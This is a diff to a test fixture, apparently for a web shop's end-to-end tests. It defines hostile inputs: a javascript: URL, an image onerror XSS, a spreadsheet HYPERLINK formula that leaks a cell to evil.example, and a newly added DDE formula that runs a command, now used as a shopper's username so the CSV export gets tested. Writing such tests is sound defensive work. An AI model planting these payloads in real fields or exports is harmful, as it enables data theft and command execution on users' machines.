@@ -31,6 +31,8 @@ export const HOSTILE = {
   jsUrl: `javascript:${RUN}`,
   /** A spreadsheet formula (OWASP CSV injection). */
   formula: '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")',
+  /** A DDE formula with no colon, so it can be a username (Basic auth splits at the colon). */
+  dde: "=cmd|'/C calc'!A0",
   /** A status no backend should send, shown as "Status unavailable" and reported raw. */
   status: `<img src=x onerror="${RUN}">SHIPPED`,
 } as const;
@@ -44,7 +46,8 @@ export const HOSTILE_SOCK = {
 };
 
 export const HOSTILE_SHOPPER = {
-  username: 'hostile',
+  /** The ops view and its CSV show usernames: this one is a formula. */
+  username: HOSTILE.dde,
   password: 'password',
   firstName: HOSTILE.script,
   lastName: HOSTILE.img,
@@ -74,8 +77,9 @@ function shopper(): Customer {
 }
 
 /**
- * Adds (once) a sock whose name, description, tag and image URL are hostile, a shopper `hostile`
- * (password `password`) whose names, email and address are hostile, with that sock in the cart,
+ * Adds (once) a sock whose name, description, tag and image URL are hostile, a shopper whose
+ * username is a spreadsheet formula (password `password`) and whose names, email and address are
+ * hostile, with that sock in the cart,
  * one order whose payment failed (for the ops view and its CSV) and one order whose status is
  * hostile text. Returns the ids a test needs.
  */
